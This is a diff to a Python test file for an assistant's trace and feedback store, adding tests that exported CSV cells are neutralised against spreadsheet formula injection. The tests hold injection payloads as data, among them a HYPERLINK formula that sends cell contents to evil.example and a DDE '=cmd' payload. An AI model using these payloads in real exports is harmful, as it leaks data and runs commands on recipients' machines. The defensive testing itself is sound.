@@ -82,7 +82,7 @@ def test_personal_data_is_redacted_before_storage(store: TraceStore, tmp_path: P
         "living at 10 Downing Street, London SW1A 2AA: how do I get help?"
     )
     store.record(_answer(question=question))
-    store.feedback("a1", "down", ["wrong"], "call me on 020 7946 0018")
+    store.feedback("a1", "down", ["Not accurate"], "call me on 020 7946 0018")
     raw = (tmp_path / "data" / "traces.sqlite3").read_bytes()
     wal = tmp_path / "data" / "traces.sqlite3-wal"
     raw += wal.read_bytes() if wal.exists() else b""
@@ -100,19 +100,23 @@ def test_feedback_requires_known_answer_and_valid_rating(store: TraceStore) -> N
     store.record(_answer())
     with pytest.raises(InputError, match="up' or 'down"):
         store.feedback("a1", "meh")
-    store.feedback("a1", "up", ["clear", " "], None)
+    store.feedback("a1", "up", ["useful sources", " "], None)
     rows = store.feedback_rows()
-    assert [(r["rating"], r["reasons"], r["comment"]) for r in rows] == [("up", ["clear"], None)]
+    assert [(r["rating"], r["reasons"], r["comment"]) for r in rows] == [
+        ("up", ["Useful sources"], None)
+    ]
+    with pytest.raises(InputError, match="Unknown feedback reason '=HYPERLINK"):
+        store.feedback("a1", "down", ['=HYPERLINK("http://evil")'])
 
 
 def test_feedback_csv_has_one_row_per_feedback(store: TraceStore) -> None:
     store.record(_answer("a1"))
     store.record(_answer("a2", "What is TIEx?"))
     store.feedback("a1", "up")
-    store.feedback("a2", "down", ["not accurate", "missing source"], "Too vague")
+    store.feedback("a2", "down", ["not accurate", "missing information"], "Too vague")
     rows = list(csv.DictReader(io.StringIO(store.feedback_csv())))
     assert [r["answer_id"] for r in rows] == ["a1", "a2"]
-    assert rows[1]["reasons"] == "not accurate; missing source"
+    assert rows[1]["reasons"] == "Not accurate; Missing information"
     assert rows[1]["question"] == "What is TIEx?"
     assert rows[1]["citations"] == "[1] Document 1"
 
@@ -123,7 +127,7 @@ def test_gaps_group_refused_uncited_and_downrated_by_theme(store: TraceStore) ->
     store.record(_answer("r2", "Write me a poem", refused=True, themes=("politics",)))
     store.record(_answer("u1", "What about bins?", cited=False, themes=("waste",)))
     store.record(_answer("d1", "What about roads?", themes=("waste",)))
-    store.feedback("d1", "down", ["wrong"])
+    store.feedback("d1", "down", ["Not accurate"])
     gaps = store.gaps()
     by_theme = {g["theme"]: g for g in gaps}
     assert gaps[0]["count"] == 2
@@ -181,3 +185,32 @@ def test_amend_feedback_replaces_reasons_and_comment(store: TraceStore) -> None:
     assert rows[0]["reasons"] == ["Not accurate"] and rows[0]["comment"] == "See [EMAIL]"
     with pytest.raises(InputError):
         store.amend_feedback(999, rating="up")
+
+
+def test_feedback_csv_neutralises_formulas(store: TraceStore) -> None:  # #15.6
+    store.record(_answer("a1", '=HYPERLINK("http://evil.example/?"&A1,"click")'))
+    store.record(_answer("a2", "+1 what is TIEx?"))
+    store.feedback("a1", "down", ["Not accurate"], "=cmd|' /C calc'!A0")
+    store.feedback("a2", "up", [], "@SUM(A1:A9)")
+    store.feedback("a2", "up", [], "-2+3")
+    store.feedback("a2", "up", [], "Fine - no formula = here")
+    rows = list(csv.DictReader(io.StringIO(store.feedback_csv())))
+    assert rows[0]["question"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert rows[0]["comment"] == "'=cmd|' /C calc'!A0"
+    assert rows[1]["question"] == "'+1 what is TIEx?"
+    comments = [r["comment"] for r in rows[1:]]
+    assert comments[:2] == ["'@SUM(A1:A9)", "'-2+3"]
+    assert comments[2] == "Fine - no formula = here"
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_spreadsheet_safe_cells() -> None:
+    from assistant.traces import spreadsheet_safe
+
+    assert spreadsheet_safe("=1+1") == "'=1+1"
+    assert spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe("\rx") == "'\rx"
+    assert spreadsheet_safe("safe") == "safe"
+    assert spreadsheet_safe(None) == ""
+    assert spreadsheet_safe(3) == "3"
